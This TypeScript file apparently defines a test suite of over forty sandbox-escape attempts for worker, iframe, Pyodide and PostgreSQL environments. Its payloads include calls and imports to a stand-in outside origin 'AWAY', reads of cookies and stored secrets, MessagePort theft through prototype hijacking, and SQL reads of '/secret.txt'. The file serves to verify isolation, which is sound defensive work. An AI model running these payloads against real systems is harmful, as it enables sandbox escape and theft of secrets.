/**
 * Forty and more ways out of an engine, each as the code somebody might run. Whoever gets out prints REACHED, or is seen
 * at the witness. `HERE` is the origin of the page, `AWAY` that of the witness. Knows no browser.
 */

/** `worker`: code of a run. `frame`: also tried in the frame's own document, in case code got that far. */
export type Ground = 'worker' | 'frame' | 'python' | 'sql'
export interface Attempt {
  readonly name: string
  readonly ground: Ground
  /** Several runs one after the other in the same engine, where one prepares what the next uses. */
  readonly code: readonly string[]
}

const attempt =
  (ground: Ground) =>
  (name: string, ...code: readonly string[]): Attempt => ({ name, ground, code })
const worker = attempt('worker')
const frame = attempt('frame')
const python = attempt('python')
const sql = attempt('sql')

const said = "console.log('REACHED')"
/** For what answers later or never. */
const opens = (made: string, opened: string) =>
  `const it = ${made}; await new Promise(done => { it.${opened} = () => { ${said}; done() }; it.onerror = done; setTimeout(done, 500) })`
/** The functions of a port, changed so that whoever calls one hands the port over. */
const thief = `const thief = self => { if (self instanceof MessagePort) globalThis.stolen = self };`
const stolen = `console.log('x'); await new Promise(done => setTimeout(done, 50)); if (globalThis.stolen) ${said}`

export const attempts: readonly Attempt[] = [
  worker('fetch of the API', `if ((await fetch('HERE/healthz')).ok) ${said}`),
  worker('fetch of another host', `await fetch('AWAY/hit', { mode: 'no-cors' }); ${said}`),
  worker(
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('GET', 'HERE/healthz', false); x.send(); if (x.status === 200) ${said}`,
  ),
  worker('importScripts', `importScripts('AWAY/hit.js'); ${said}`),
  worker('dynamic import', `await (0, eval)("import('AWAY/hit.js')"); ${said}`),
  worker('WebSocket', opens("new WebSocket('AWAY/hit'.replace('http', 'ws'))", 'onopen')),
  worker(
    'WebSocket of the room',
    opens("new WebSocket('HERE/socket.io/?EIO=4&transport=websocket'.replace('http', 'ws'))", 'onopen'),
  ),
  worker('EventSource', opens("new EventSource('AWAY/events')", 'onopen')),
  worker(
    'WebTransport',
    `const t = new WebTransport('https://127.0.0.1:1/'); t.ready.catch(() => {}); t.closed.catch(() => {}); ${said}`,
  ),
  worker('IndexedDB', opens("indexedDB.open('x')", 'onsuccess')),
  worker('Cache storage', `await caches.open('x'); ${said}`),
  worker('private file system', `await navigator.storage.getDirectory(); ${said}`),
  worker(
    'BroadcastChannel',
    `new BroadcastChannel('escape').postMessage('out'); await new Promise(done => setTimeout(done, 100)); ${said}`,
  ),
  worker(
    'a worker of its own',
    opens("new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))", 'onmessage'),
  ),
  worker('a message to the frame', `self.postMessage({ type: 'ended', run: 1 }); ${said}`),
  worker('the end of its own worker', `if (typeof self.close === 'function') ${said}`),
  worker(
    'global scope by a constructor',
    `const all = (() => {}).constructor('return this')(); if ((await all.fetch('HERE/healthz')).ok) ${said}`,
  ),
  worker(
    'what was deleted, by its prototype',
    `let one = globalThis; while (one && !Object.hasOwn(one, 'fetch')) one = Object.getPrototypeOf(one); if ((await one.fetch.call(globalThis, 'HERE/healthz')).ok) ${said}`,
  ),
  worker(
    'a port, by its postMessage',
    `${thief} const real = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...all) { thief(this); return real.apply(this, all) }; ${stolen}`,
  ),
  worker(
    'a port, by Reflect.apply',
    `${thief} const real = Reflect.apply; Reflect.apply = (call, self, all) => { thief(self); return real(call, self, all) }; ${stolen}`,
  ),
  worker(
    'a port, by Function.apply',
    `${thief} const real = Function.prototype.apply; Function.prototype.apply = function (self, all) { thief(self); return Reflect.apply(real, this, [self, all]) }; ${stolen}`,
  ),
  worker(
    'a port, by the frames of a stack',
    `Error.prepareStackTrace = (_, all) => all.map(one => one.getThis()); const owners = new Error('x').stack; if (Array.isArray(owners) && owners.some(one => one && Object.values(one).some(value => value instanceof MessagePort))) ${said}`,
  ),

  frame('beacon', `navigator.sendBeacon('AWAY/hit'); await new Promise(done => setTimeout(done, 300))`),
  frame(
    'image',
    `const it = new Image(); it.src = 'AWAY/hit.png'; await new Promise(done => { it.onload = () => { ${said}; done() }; it.onerror = done; setTimeout(done, 500) })`,
  ),
  frame(
    'style',
    `const it = document.createElement('style'); it.textContent = '@import "AWAY/hit.css"'; document.head.append(it); await new Promise(done => setTimeout(done, 300)); if (it.sheet.cssRules[0].styleSheet) ${said}`,
  ),
  frame(
    'form',
    `const it = document.createElement('form'); it.action = 'AWAY/hit'; it.target = 'formed'; const inner = document.createElement('iframe'); inner.name = 'formed'; document.body.append(it, inner); it.submit(); await new Promise(done => setTimeout(done, 400))`,
  ),
  frame(
    'a frame of its own',
    `const it = document.createElement('iframe'); it.src = 'AWAY/hit'; document.body.append(it); await new Promise(done => setTimeout(done, 400))`,
  ),
  frame('the page around it', `if (parent.document.title !== null) ${said}`),
  frame('cookies', `if (document.cookie.includes('secret')) ${said}`),
  frame('cookie store', `if (await cookieStore.get('secret')) ${said}`),
  frame('local storage', `if (localStorage.getItem('secret')) ${said}`),
  frame('a window of its own', `if (window.open('AWAY/hit')) ${said}`),
  frame(
    'shared worker',
    `const it = new SharedWorker('HERE/hit.js'); await new Promise((done, failed) => { it.onerror = failed; setTimeout(done, 300) }); ${said}`,
  ),
  frame('service worker', `await navigator.serviceWorker.register('HERE/hit.js'); ${said}`),
  frame('fetch of the API, from the frame', `if ((await fetch('HERE/healthz')).ok) ${said}`),

  frame(
    'navigation of the page',
    `top.location.href = 'AWAY/hit'; await new Promise(done => setTimeout(done, 400))`,
  ),

  python('pyodide.http', `from pyodide.http import open_url\nif open_url('HERE/healthz'): print('REACHED')`),
  python(
    'js.XMLHttpRequest',
    `import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'HERE/healthz', False)\nx.send()\nif x.status == 200: print('REACHED')`,
  ),
  python(
    'run_js',
    `from pyodide.code import run_js\nrun_js("const y = new XMLHttpRequest(); y.open('GET', 'AWAY/hit', false); y.send()")\nprint('REACHED')`,
  ),
  python('importScripts by js', `import js\njs.importScripts('AWAY/hit.js')\nprint('REACHED')`),
  python('a message to the frame, by js', `import js\njs.postMessage('out')\nprint('REACHED')`),
  python(
    'a port, by the next message',
    `from pyodide.code import run_js\nrun_js("const known = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data'); Object.defineProperty(MessageEvent.prototype, 'data', { get() { globalThis.stolen = this.target; return known.get.call(this) } })")`,
    `import js\nif hasattr(js, 'stolen'): print('REACHED')`,
  ),

  sql('pg_read_file', `select pg_read_file('/secret.txt')`),
  sql('copy from a file', `create table t (x text); copy t from '/secret.txt'; select * from t`),
  sql(
    'large object from a file',
    `select lo_import('/secret.txt', 4242); select convert_from(lo_get(4242), 'UTF8')`,
  ),
  sql('listing of a folder', `select replace(pg_ls_dir('/'), 'secret.txt', 'REACHED') order by 1`),
]
/** What the file says that the attempts of SQL look for. */
export const secret = 'REACHED the secret'
